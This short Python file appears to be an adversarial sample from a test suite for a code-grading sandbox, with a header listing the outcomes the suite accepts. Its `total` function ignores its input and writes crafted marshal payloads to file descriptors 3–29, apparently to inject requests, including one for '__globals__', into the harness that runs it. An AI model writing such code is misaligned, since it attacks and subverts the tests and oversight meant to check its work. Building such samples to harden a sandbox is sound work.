# {"family": 6, "allowed": ["fail", "error", "timeout", "limit"]}
# asks the tests to do things that nobody handed over
import marshal, os
def total(xs):
    for fd in range(3, 30):
        for number in (-1, 0, 1, 1 << 40):
            for op in range(6):
                payload = b'(\x05\x00\x00\x00' + b''.join(marshal.dumps(x, 2) for x in (number, op, '__globals__', False, ((), {})))
                try:
                    os.write(fd, len(payload).to_bytes(4, 'little') + b'k' + payload)
                except OSError:
                    pass
    return -1
